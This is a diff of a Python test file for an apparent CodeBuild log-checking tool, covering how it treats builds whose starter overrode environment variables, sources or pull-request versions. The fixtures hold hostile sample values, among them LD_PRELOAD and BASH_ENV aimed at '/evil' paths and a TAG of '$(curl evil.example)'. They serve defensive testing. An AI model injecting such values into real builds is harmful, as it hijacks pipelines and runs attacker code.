@@ -9,7 +9,7 @@ import pytest
 
 from remediator.core.codebuild.failure import BuildArn, BuildFailure
 from remediator.core.codebuild.image import ImageReference
-from remediator.core.guards.own_commands import pull_request_objection
+from remediator.core.codebuild.start import Start, Starter
 from remediator.core.guards.review import objection
 from remediator.core.outcome import BadInput, Ending, Outcome
 from remediator.core.policies.secret_policy import SecretPolicyFault, with_role
@@ -99,52 +99,60 @@ def test_what_is_no_arn_of_a_build_is_refused(arn: Any) -> None:
         BuildArn.parse(arn)
 
 
-STEERING = {
+VARIABLES: dict[str, dict[str, Any]] = {
     "the shell's path": {"name": "PATH", "value": "/evil", "type": "PLAINTEXT"},
     "what bash reads first": {"name": "BASH_ENV", "value": "/evil/x", "type": "PLAINTEXT"},
-    "a function of that name": {"name": "BASH_FUNC_docker%%", "value": "() { false; }", "type": "PLAINTEXT"},
     "the loader": {"name": "LD_PRELOAD", "value": "/evil/x.so", "type": "PLAINTEXT"},
-    "another daemon": {"name": "DOCKER_HOST", "value": "tcp://evil.example", "type": "PLAINTEXT"},
     "another docker configuration": {"name": "DOCKER_AUTH_CONFIG", "value": "{}", "type": "PLAINTEXT"},
-    "a proxy": {"name": "https_proxy", "value": "http://evil.example", "type": "PLAINTEXT"},
     "the words": {"name": "NOTE", "value": "toomanyrequests: You have reached", "type": "PLAINTEXT"},
-    "the other words": {"name": "NOTE", "value": "You have reached your pull rate limit.", "type": "PLAINTEXT"},
-    "a parameter of that name": {"name": "BASH_ENV", "value": "/mine", "type": "PARAMETER_STORE"},
-    "a shell's trace": {"name": "PS4", "value": "x", "type": "PLAINTEXT"},
-    "git's settings": {"name": "GIT_CONFIG_COUNT", "value": "1", "type": "PLAINTEXT"},
-    "npm's shell": {"name": "npm_config_script_shell", "value": "/evil", "type": "PLAINTEXT"},
-    "java's options": {"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:x", "type": "PLAINTEXT"},
     "a command": {"name": "TAG", "value": "$(curl evil.example)", "type": "PLAINTEXT"},
-}
-ORDINARY = {
+    "a tool's own name": {"name": "TF_CLI_ARGS", "value": "-chdir=/evil", "type": "PLAINTEXT"},
+    "a list of words": {"name": "PARTS", "value": "too many", "type": "PLAINTEXT"},
     "a stage": {"name": "STAGE", "value": "live", "type": "PLAINTEXT"},
-    "docker's builder": {"name": "DOCKER_BUILDKIT", "value": "1", "type": "PLAINTEXT"},
-    "node's environment": {"name": "NODE_ENV", "value": "production", "type": "PLAINTEXT"},
+    "docker's builder": {"name": "DOCKER_BUILDKIT", "value": "1"},
+    "no value": {"name": "DEBUG"},
     "a reference": {"name": "NPM_TOKEN", "value": "secret:key", "type": "SECRETS_MANAGER"},
-    "python's output": {"name": "PYTHONUNBUFFERED", "value": "1", "type": "PLAINTEXT"},
+    "a parameter": {"name": "NOTE", "value": "/mine", "type": "PARAMETER_STORE"},
+    "a name of CodeBuild's": {"name": "CODEBUILD_SRC_DIR", "value": "/evil", "type": "PLAINTEXT"},
 }
 
 
-def told_of(variable: dict[str, str], *, own: bool = False) -> str:
+def told_of(variable: dict[str, Any], own: dict[str, Any] | None = None, by: Starter = Starter.ANYBODY) -> str:
     build = given.throttled_command(env={"environmentVariables": [variable]})
-    snapshot = given.of_commands(env={"environmentVariables": [variable] if own else []})
-    found = objection(given.reading(build, snapshot), given.SIGN_IN, "advise", 0.0)
+    snapshot = given.of_commands(env={"environmentVariables": [own] if own else []})
+    found = objection(given.reading(build, snapshot, start=Start("", by)), given.SIGN_IN, "advise", 0.0)
     return found.reason if found else ""
 
 
-@pytest.mark.parametrize("case", STEERING)
-def test_a_log_is_no_evidence_where_whoever_started_the_build_could_make_it_say_anything(case: str) -> None:
-    assert f"with another {STEERING[case]['name']}" in told_of(STEERING[case])
+@pytest.mark.parametrize("case", VARIABLES)
+def test_a_log_is_no_evidence_where_whoever_started_the_build_set_a_variable(case: str) -> None:
+    variable = VARIABLES[case]
+    assert f"with another {variable['name']}" in told_of(variable)
+    for other in ({"value": "own"}, {"name": "OTHER"}, {"type": "PLAINTEXT", "value": "own"}):
+        assert f"with another {variable['name']}" in told_of(variable, {**variable, **other})
 
 
-@pytest.mark.parametrize("case", ORDINARY)
-def test_an_ordinary_variable_that_a_start_sets_is_no_objection(case: str) -> None:
-    assert told_of(ORDINARY[case]) == ""
+def test_a_reference_in_place_of_the_same_text_is_another_variable() -> None:
+    plain = {"name": "NOTE", "value": "/mine", "type": "PLAINTEXT"}
+    assert "with another NOTE" in told_of({**plain, "type": "PARAMETER_STORE"}, plain)
 
 
-@pytest.mark.parametrize("case", STEERING)
+@pytest.mark.parametrize("case", VARIABLES)
 def test_a_variable_that_the_project_itself_has_is_no_objection(case: str) -> None:
-    assert told_of(STEERING[case], own=True) == ""
+    assert told_of(VARIABLES[case], VARIABLES[case]) == ""
+    assert told_of(VARIABLES[case], {"type": "PLAINTEXT", "value": "", **VARIABLES[case]}) == ""
+
+
+@pytest.mark.parametrize("case", VARIABLES)
+def test_a_variable_of_a_pipelines_action_or_of_a_webhooks_batch_is_no_objection(case: str) -> None:
+    assert told_of(VARIABLES[case], by=Starter.PIPELINE) == ""
+    assert told_of(VARIABLES[case], by=Starter.WEBHOOK) == ""
+
+
+@pytest.mark.parametrize("case", VARIABLES)
+def test_an_image_that_codebuild_could_not_pull_is_evidence_whatever_the_start_set(case: str) -> None:
+    build = given.build(env={"environmentVariables": [VARIABLES[case]]}, sourceVersion="pr/7")
+    assert objection(given.reading(build, given.snapshot()), given.SIGN_IN, "advise", 0.0) is None
 
 
 @pytest.mark.parametrize(
@@ -162,6 +170,15 @@ MORE: dict[str, dict[str, Any]] = {
     "secondarySources": {"secondarySources": [{"sourceIdentifier": "x", "type": "GITHUB", "location": EVIL}]},
     "secondarySourceVersions": {"secondarySourceVersions": [{"sourceIdentifier": "x", "sourceVersion": "pr/7"}]},
     "logsConfig": {"logs": {"groupName": "evil", "streamName": "x"}},
+    "debugSession": {"debugSession": {"sessionEnabled": True, "sessionTarget": "x"}},
+    "environment.fleet": {"env": {"fleet": {"fleetArn": "arn:aws:codebuild:eu-west-1:1:fleet/evil:1"}}},
+    "environment.memberOfNextYear": {"env": {"memberOfNextYear": "evil"}},
+}
+SAYS_NO_MORE: dict[str, dict[str, Any]] = {
+    "a larger machine": {"env": {"computeType": "BUILD_GENERAL1_LARGE"}},
+    "no privileges": {"env": {"privilegedMode": False}},
+    "less time": {"timeoutInMinutes": 5, "queuedTimeoutInMinutes": 5},
+    "a debug session that is off": {"debugSession": {"sessionEnabled": False}},
 }
 
 
@@ -173,14 +190,38 @@ def test_commands_that_were_given_other_files_or_another_log_are_no_ground_for_a
     assert f"with another {member}" in found.reason
 
 
-@pytest.mark.parametrize("version", ["pr/7", "refs/pull/7/head", "refs/pull/7/head^{" + given.COMMIT + "}", "mr/7"])
-def test_commands_of_a_pull_request_that_somebody_named_are_no_ground_for_a_repair(version: str) -> None:
-    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is not None
-    webhook = given.throttled_command(sourceVersion=version, initiator="GitHub-Hookshot/1")
-    assert pull_request_objection(webhook) is None
-    assert pull_request_objection(given.build(sourceVersion=version)) is None
+@pytest.mark.parametrize("case", SAYS_NO_MORE)
+def test_overrides_that_bring_nobodys_commands_or_files_are_no_objection(case: str) -> None:
+    reading = given.reading(given.throttled_command(**SAYS_NO_MORE[case]), given.of_commands())
+    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None
 
 
-@pytest.mark.parametrize("version", [None, "main", "pr-7", "refs/heads/pr/7", given.COMMIT])
-def test_other_versions_are_no_pull_request(version: str | None) -> None:
-    assert pull_request_objection(given.throttled_command(sourceVersion=version)) is None
+BATCH = f"arn:aws:codebuild:{given.REGION}:{given.ACCOUNT}:build-batch/{given.PROJECT}:6b0e"
+
+
+@pytest.mark.parametrize("batch", [{}, {"buildBatchArn": BATCH}])
+@pytest.mark.parametrize("version", ["pr/7", "refs/pull/7/head^{" + given.COMMIT + "}", "main", given.COMMIT, "pr/7\n"])
+def test_commands_of_a_version_that_somebody_named_are_no_ground_for_a_repair_or_a_wait(
+    version: str, batch: dict[str, Any]
+) -> None:
+    build = given.throttled_command(sourceVersion=version, **batch)
+    reading = given.reading(build, given.of_commands())
+    found = objection(reading, given.SIGN_IN, "repair", 0.0)
+    assert found is not None
+    assert "nothing shows that a webhook or a pipeline of the project did that" in found.reason
+    refusal = given.case(build, given.of_commands(), given.throttled(given.ABUSED)).refusal
+    assert refusal is not None
+    assert found.reason in refusal.reason
+
+
+@pytest.mark.parametrize("version", [None, "refs/heads/main", "refs/tags/v1"])
+def test_commands_of_the_projects_branches_are(version: str | None) -> None:
+    reading = given.reading(given.throttled_command(sourceVersion=version), given.of_commands())
+    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None
+
+
+@pytest.mark.parametrize("by", [Starter.WEBHOOK, Starter.PIPELINE])
+def test_commands_that_a_webhook_or_a_pipeline_of_the_project_built_are(by: Starter) -> None:
+    build = given.throttled_command(sourceVersion="pr/7")
+    reading = given.reading(build, given.of_commands(), start=Start("pr/7", by))
+    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None
